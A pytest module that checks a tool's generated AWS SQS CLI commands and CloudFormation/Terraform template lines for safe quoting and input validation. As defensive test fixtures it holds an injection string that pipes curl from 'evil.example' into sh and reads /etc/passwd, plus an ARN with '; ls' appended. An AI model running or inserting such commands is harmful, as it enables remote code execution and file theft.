"""Commands and template lines in notifications."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mendq.catalogue.examples import DLQ_ARN, QUEUE_ARN
from mendq.model.queue import RedriveAllowPolicy
from mendq.model.state import State
from mendq.notifications.change_lines import (
    format_attribute_value,
    make_template_lines,
    name_terraform_argument,
)
from mendq.notifications.commands import (
    create_queue_command,
    delete_queue_command,
    get_attributes_command,
    list_consumers_command,
    list_quotas_command,
    set_attributes_command,
)
from tests.architecture.aws_commands import find_mistake
from tests.golden.checks import fail_if_stale
from tests.notifications.pages import (
    COMMANDS_FILE,
    DLQ_STEPS,
    list_commands,
    list_section_lines,
    make_notification,
)

EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'

VALUES = json.loads(Path(__file__).with_name("values.json").read_text())


def attributes_of(command: str) -> Any:
    given_text = shlex.split(command)[-1]
    if given_text.startswith("{"):
        return json.loads(given_text)
    return dict(pair.split("=") for pair in given_text.split(","))


@settings(max_examples=60)
@given(values=st.dictionaries(st.text(min_size=1), st.text(), min_size=1, max_size=3))
def test_queue_commands_quote_any_attribute_value_as_one_argument(values: dict[str, str]) -> None:
    for given_values in (values, {"KmsMasterKeyId": "alias/a,b=c"}, {"RedrivePolicy": EVIL}):
        for command in (
            set_attributes_command(QUEUE_ARN, given_values),
            create_queue_command(DLQ_ARN, given_values),
        ):
            assert len(shlex.split(command)) == 9
            assert attributes_of(command) == given_values
            assert command.isascii()
            assert command.isprintable()
            assert "://evil" not in command


def test_queue_commands_match_the_golden_file_and_exist_in_the_aws_cli() -> None:
    fail_if_stale(COMMANDS_FILE)
    assert {command: find_mistake(command) for command in list_commands()} == dict.fromkeys(
        list_commands(), ""
    )


@pytest.mark.parametrize(
    "command",
    [
        *(get_attributes_command, list_consumers_command, delete_queue_command),
        lambda arn: list_quotas_command("sqs", arn),
        lambda arn: create_queue_command(arn, {}),
        lambda arn: set_attributes_command(arn, {"A": "1"}),
    ],
)
def test_queue_command_for_a_text_that_is_no_queue_arn_raises_value_error(command: Any) -> None:
    with pytest.raises(ValueError, match="not the ARN"):
        command(f"{QUEUE_ARN}; ls")


def test_change_commands_create_the_dlq_for_its_source_before_attaching_it() -> None:
    change = list_section_lines(make_notification(steps=DLQ_STEPS).body, "CHANGE")
    make, attach = (attributes_of(line) for line in change if line.startswith("aws sqs"))
    assert make["RedriveAllowPolicy"] == RedriveAllowPolicy("byQueue", (QUEUE_ARN,)).text
    assert attach == {"RedrivePolicy": DLQ_STEPS[1]["after"]}


@pytest.mark.parametrize(("attribute", "text", "cloudformation", "terraform"), VALUES)
def test_template_lines_show_mendqs_value_in_cloudformation_and_terraform_and_omit_an_unset_one(
    attribute: str, text: str, cloudformation: str, terraform: str
) -> None:
    steps = ({"attribute": attribute, "before": "", "after": text},)
    page = make_notification(
        {"attributes": {}}, state=State.OVERRIDDEN, steps=(*steps, DLQ_STEPS[0])
    )
    ours, ours_too, theirs, _ = list_section_lines(page.body, "TEMPLATE")[4:]
    assert ours == f"Mendq's, CloudFormation: {cloudformation}"
    assert ours_too == f"Mendq's, Terraform: {terraform}"
    assert theirs.endswith("(not set: leave it out)")


@pytest.mark.parametrize("text", ["", json.dumps({"Id": "x" * 400}), "x" * 100_000])
def test_template_lines_omit_a_value_that_is_too_long(text: str) -> None:
    assert not any("x" * 100 in line for line in make_template_lines("its", "Policy", text))


@settings(max_examples=60)
@given(st.text(min_size=1), st.text(min_size=1))
def test_template_line_is_one_printable_ascii_line_for_any_text(attribute: str, text: str) -> None:
    line = "".join(make_template_lines("its", attribute, text)) + name_terraform_argument(attribute)
    assert line.isascii()
    assert line.isprintable()


def test_attribute_value_in_seconds_also_shows_its_days_if_they_are_whole() -> None:
    assert format_attribute_value("MessageRetentionPeriod", "1209600") == "1209600 s (14 d)"
    assert format_attribute_value("MessageRetentionPeriod", "90000") == "90000 s"


def test_attribute_value_that_is_no_number_of_seconds_is_shown_without_a_unit() -> None:
    assert format_attribute_value("MaximumMessageSize", "1024") == "1024"
    assert format_attribute_value("DelaySeconds", "soon now") == '"soon now"'
